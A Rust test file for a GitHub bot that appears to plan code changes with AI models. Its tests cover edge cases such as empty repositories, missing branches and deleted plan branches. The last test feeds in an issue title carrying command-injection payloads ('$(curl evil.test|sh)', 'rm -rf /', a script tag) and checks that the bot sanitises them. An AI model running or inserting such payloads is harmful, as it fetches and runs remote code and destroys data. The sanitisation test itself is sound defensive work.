//! Repositories that are not as expected.

use baton::domain::policy::Mode;
use baton::sandbox::github::{CallMatcher, Config, Fault, FaultRule, Reply, ReplyBody};
use baton::sandbox::model::{asks, reads, submits};
use insta::assert_snapshot;
use serde_json::json;

use crate::world::{Setup, World, plan, plan_of};

#[tokio::test]
async fn a_repository_without_commits_says_so() {
    let config = Config { files: Vec::new(), ..Config::default() };
    let world = World::with(Setup { config, ..Setup::default() }).await;
    let ann = world.maintainer("ann");
    let issue = ann.opens("Add Redis caching", "Cache query results with 5min TTL").await;
    ann.says(issue, "/baton plan").await;
    assert_snapshot!(world.conversation(issue), @"
    #1 Add Redis caching

    ann: (eyes, confused)
      /baton plan

    baton[bot]:
      ### Baton needs a person

      @ann, the repository has no commit yet, so there is no code to plan for.

      Push a first commit, then write `/baton retry`. Spent on this issue: $0.00.

    baton[bot]:
      ### Baton · Blocked · needs a person
      Route ✔ · **Plan** | $0.00 of $5.00

      The repository has no commit yet, so there is no code to plan for.

      ▸ Router analysis: simple; Sonnet is the safe middle

      <sub>`/baton retry` · `/baton cost` · `/baton stop` · `/baton help`</sub>
    ");
}

/// The webhook named the branch; the server's own answer leaves it out.
#[tokio::test]
async fn a_server_that_does_not_name_the_default_branch_is_planned_on_all_the_same() {
    let repository = CallMatcher::call("GET", "/repos/{owner}/{repo}");
    let config = Config { default_branch: "trunk".to_owned(), ..Config::default() };
    let world = World::with(Setup { config, ..Setup::default() }).await;
    let id = world.github.repo().id().0;
    let nameless = json!({ "id": id, "name": "helpdesk", "owner": { "login": "acme" } });
    let body = ReplyBody::Json(nameless);
    let reply = Reply { status: 200, headers: Vec::new(), body };
    world.github.fault(FaultRule::always(repository, Fault::FailBefore(reply)));
    let ann = world.maintainer("ann");
    let issue = ann.opens("Add Redis caching", "Cache query results with 5min TTL").await;
    world.opus().will([submits(plan())]);
    ann.says(issue, "/baton plan").await;
    assert_eq!(world.stage(issue).await, "Planned", "{}", world.conversation(issue));
}

/// A branch that is not there is no repository without commits.
#[tokio::test]
async fn a_default_branch_that_is_not_found_is_called_so() {
    let world = World::new().await;
    for template in ["/git/ref/{*ref}", "/branches/{*branch}"] {
        world
            .github
            .fault(FaultRule::always(CallMatcher::call("GET", template), Fault::not_found()));
    }
    let ann = world.maintainer("ann");
    let issue = ann.opens("Add Redis caching", "Cache query results with 5min TTL").await;
    ann.says(issue, "/baton plan").await;
    let said = world.conversation(issue);
    assert!(said.contains("default branch `main` was not found"), "{said}");
    assert!(!said.contains("no commit yet"), "{said}");
}

/// Case 87: such a server knows branches by another call.
#[tokio::test]
async fn a_server_without_single_refs_is_planned_on() {
    let world = World::new().await;
    let refs = CallMatcher::call("GET", "/git/ref/{*ref}");
    world.github.fault(FaultRule::always(refs, Fault::not_found()));
    let ann = world.maintainer("ann");
    let issue = ann.opens("Add Redis caching", "Cache query results with 5min TTL").await;
    world.opus().will([submits(plan())]);
    ann.says(issue, "/baton plan").await;
    assert_eq!(world.stage(issue).await, "Planned", "{}", world.conversation(issue));
}

/// Case 87: drafts are refused with 422, so an ordinary pull request is opened.
#[tokio::test]
async fn where_drafts_are_refused_the_pull_request_is_an_ordinary_one() {
    let world = World::new().await;
    world.github.repo().allow_drafts(false);
    let ann = world.maintainer("ann");
    let issue = ann.opens("Add Redis caching", "Cache query results with 5min TTL").await;
    world.opus().will([submits(plan())]);

    ann.says(issue, "/baton plan").await;

    let pull = world.github.repo().pulls().remove(0);
    assert!(!pull.pull.as_ref().unwrap().draft);
    assert!(!world.newest_comment(issue).contains("draft"), "{}", world.newest_comment(issue));
}

#[tokio::test]
async fn a_server_without_tarballs_is_read_file_by_file() {
    let world = World::new().await;
    let tarball = CallMatcher::call("GET", "/repos/{owner}/{repo}/tarball/{*ref}");
    world.github.fault(FaultRule::once(tarball, Fault::not_found()));
    let ann = world.maintainer("ann");
    let issue = ann.opens("Add Redis caching", "Cache query results with 5min TTL").await;
    world.opus().will([reads("src/rag.rs"), submits(plan())]);

    ann.says(issue, "/baton plan").await;

    assert_eq!(world.stage(issue).await, "Planned");
    let read = world.model.calls().last().map(|it| it.body["messages"].to_string()).unwrap();
    assert!(read.contains("pub struct Rag"), "{read}");
}

/// Case 87: what the server does not hand out exists all the same: the plan may change it, and the
/// model is told that it did not read it.
#[tokio::test]
async fn files_that_are_not_handed_out_are_told_and_exist() {
    let mut files = Config::default().files;
    let large = files.iter_mut().find(|it| it.path == "src/rag.rs").unwrap();
    large.bytes.resize(1_200_000, b'\n');
    let config = Config { files, ..Config::default() };
    let world = World::with(Setup { config, ..Setup::default() }).await;
    let tarball = CallMatcher::call("GET", "/tarball/{*ref}");
    world.github.fault(FaultRule::always(tarball, Fault::not_found()));
    // One of those that are asked for is not there.
    let blob = CallMatcher::call("GET", "/git/blobs/{sha}");
    world.github.fault(FaultRule::once(blob, Fault::not_found()));
    let ann = world.maintainer("ann");
    let issue = ann.opens("Add Redis caching", "Cache query results with 5min TTL").await;
    world.opus().will([submits(plan())]);

    ann.says(issue, "/baton plan").await;

    assert_eq!(world.stage(issue).await, "Planned", "{}", world.conversation(issue));
    assert_eq!(world.model.books().len(), 1, "the plan passed at once");
    let told = world.model.calls().last().map(|it| it.body["messages"].to_string()).unwrap();
    assert!(told.contains("2 of its files were not handed out by the server"), "{told}");
    assert!(told.contains("src/rag.rs"), "{told}");
}

/// Where no blob can be read either, nothing is planned on an empty repository.
#[tokio::test]
async fn a_repository_of_which_nothing_is_handed_out_is_not_planned_on() {
    let world = World::new().await;
    for template in ["/tarball/{*ref}", "/git/blobs/{sha}"] {
        world
            .github
            .fault(FaultRule::always(CallMatcher::call("GET", template), Fault::not_found()));
    }
    let ann = world.maintainer("ann");
    let issue = ann.opens("Add Redis caching", "Cache query results with 5min TTL").await;
    ann.says(issue, "/baton plan").await;
    let said = world.conversation(issue);
    assert!(said.contains("neither an archive nor single files"), "{said}");
}

/// Case 87: the archive alone is enough to plan on.
#[tokio::test]
async fn a_server_without_trees_is_read_by_its_archive() {
    let world = World::new().await;
    let tree = CallMatcher::call("GET", "/git/trees/{*sha}");
    world.github.fault(FaultRule::once(tree, Fault::not_found()));
    let ann = world.maintainer("ann");
    let issue = ann.opens("Add Redis caching", "Cache query results with 5min TTL").await;
    world.opus().will([reads("src/rag.rs"), submits(plan())]);
    ann.says(issue, "/baton plan").await;
    assert_eq!(world.stage(issue).await, "Planned", "{}", world.conversation(issue));
    let read = world.model.calls().last().map(|it| it.body["messages"].to_string()).unwrap();
    assert!(read.contains("pub struct Rag"), "{read}");
}

/// The plan is kept: publishing it again costs nothing.
#[tokio::test]
async fn a_deleted_branch_calls_a_person_and_retry_commits_the_plan_again() {
    let world = World::new().await;
    let ann = world.maintainer("ann");
    let issue = ann.opens("Add Redis caching", "Cache query results with 5min TTL").await;
    world.opus().will([submits(plan())]);
    ann.says(issue, "/baton plan").await;
    let before = world.conversation(issue);

    ann.deletes_branch("baton/1-add-redis-caching").unwrap();
    world.settles().await;
    let blocked = world.news(issue, &before);
    ann.says(issue, "/baton retry").await;

    assert_eq!(world.model.books().len(), 1);
    assert_eq!(world.stage(issue).await, "Planned");
    assert_eq!(world.github.repo().branches()[0].0, "baton/1-add-redis-caching");
    assert_snapshot!(blocked + &world.news(issue, &before), @"

    baton[bot]:
      ### Baton · Blocked · needs a person
      Route ✔ · **Plan** | $0.0386 of $5.00 | 1 turn, at most $2.00 a run | [plan](https://github.test/acme/helpdesk/blob/<sha>/docs/prds/active/1-plan.md) #2

      The branch with the plan was deleted.

      ▸ Router analysis: simple; Sonnet is the safe middle

      ▸ Cost by model

      <sub>`/baton retry` · `/baton cost` · `/baton stop` · `/baton help`</sub>

    baton[bot]:
      ### Baton needs a person

      @ann, the branch with the plan was deleted.

      `/baton retry` commits the plan again at no cost; `/baton stop` ends it. Spent on this issue: $0.0386.

    baton[bot]:
      ### Baton · Planned · revision 1
      Route ✔ · Plan ✔ | $0.0386 of $5.00 | 1 turn, at most $2.00 a run | [plan](https://github.test/acme/helpdesk/blob/<sha>/docs/prds/active/1-plan.md) #3

      ▸ Router analysis: simple; Sonnet is the safe middle

      ▸ Cost by model

      <sub>`/baton approve` · `/baton revise` · `/baton reject` · `/baton help`</sub>

    baton[bot]:
      ### Baton needs a person

      @ann, the branch with the plan was deleted.

      `/baton retry` commits the plan again at no cost; `/baton stop` ends it. Spent on this issue: $0.0386.

    ann: (eyes, rocket)
      /baton retry

    baton[bot]:
      ### Plan revision 1 is ready

      Answers are kept in memory for five minutes, so that a repeated question is free.

      [Read the plan](https://github.test/acme/helpdesk/blob/<sha>/docs/prds/active/1-plan.md) · pull request #3 · 3 files · 3 tasks (2 Haiku, 1 Sonnet) · content `b604786138c7`

      - Complexity: simple → medium (medium task t2)
      - Planning cost: $0.0386
      - Building it: about $0.0993 to $0.32 (list price for 3 tasks on the tiers above; no history here yet)

      Planning complete. Read the plan, then approve it by this box or by `/baton approve 1`:

      - [ ] <!-- baton:do=approve rev=1 -->Approve plan (revision 1)

      To change it, write `/baton revise` and what should be different, here or on the pull request; `/baton reject` sets it aside. Nothing is built and nothing more is spent until you act.

      ▸ What the planner read

      ▸ Build it by hand with your own tools
    ");
}

/// A person's commit on the plan's branch is built upon, never overwritten.
#[tokio::test]
async fn a_persons_commit_on_the_plans_branch_stays() {
    let world = World::new().await;
    let ann = world.maintainer("ann");
    let issue = ann.opens("Add Redis caching", "Cache query results with 5min TTL").await;
    world.opus().will([submits(plan()), submits(plan_of("Without Redis."))]);
    ann.says(issue, "/baton plan").await;
    ann.pushes("baton/1-add-redis-caching", &[("NOTES.md", Some("mine"))], "notes").unwrap();
    ann.says(issue, "/baton revise leave Redis out").await;

    let repo = world.github.repo();
    assert_eq!(repo.file("baton/1-add-redis-caching", "NOTES.md").as_deref(), Some("mine"));
    assert_eq!(repo.commits("baton/1-add-redis-caching").len(), 4);
}

/// Case 26 of the title: names that would be dangerous in other people's workflows.
#[tokio::test]
async fn a_dangerous_title_makes_a_harmless_branch_and_pull_request() {
    let world = World::in_mode(Mode::Quiet).await;
    let ann = world.maintainer("ann");
    let title = "$(curl evil.test|sh) `id` \"; rm -rf / #[skip ci] @acme/all Fixes #7 <script>";
    let issue = ann.opens(title, "Cache query results with 5min TTL").await;
    world.opus().will([asks(["Is Redis optional?"]), submits(plan())]);
    ann.says(issue, "/baton plan").await;
    ann.says(issue, "1a").await;

    let pull = world.github.repo().pulls().remove(0);
    assert_snapshot!(format!("{}\n{}", pull.title, pull.pull.as_ref().unwrap().head), @"
    Plan: (curl evil.test sh) id rm -rf / # skip ci acme/all Fixes 7 script
    baton/1-curl-evil-test-sh-id-rm-rf-skip-ci-acme
    ");
}
